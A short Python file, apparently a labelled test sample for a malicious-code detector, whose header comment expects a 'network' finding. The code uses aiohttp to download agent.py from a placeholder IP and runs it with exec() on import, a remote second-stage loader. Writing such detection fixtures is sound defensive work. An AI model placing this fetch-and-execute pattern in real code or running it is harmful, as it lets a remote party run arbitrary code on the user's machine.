# expect: network; aiohttp session fetches a second stage from a remote host and executes it
import asyncio

import aiohttp


async def fetch_and_run():
    async with aiohttp.ClientSession() as session:
        async with session.get("http://198.51.100.61:8000/agent.py") as resp:
            code = await resp.text()
    exec(code, {})


asyncio.run(fetch_and_run())
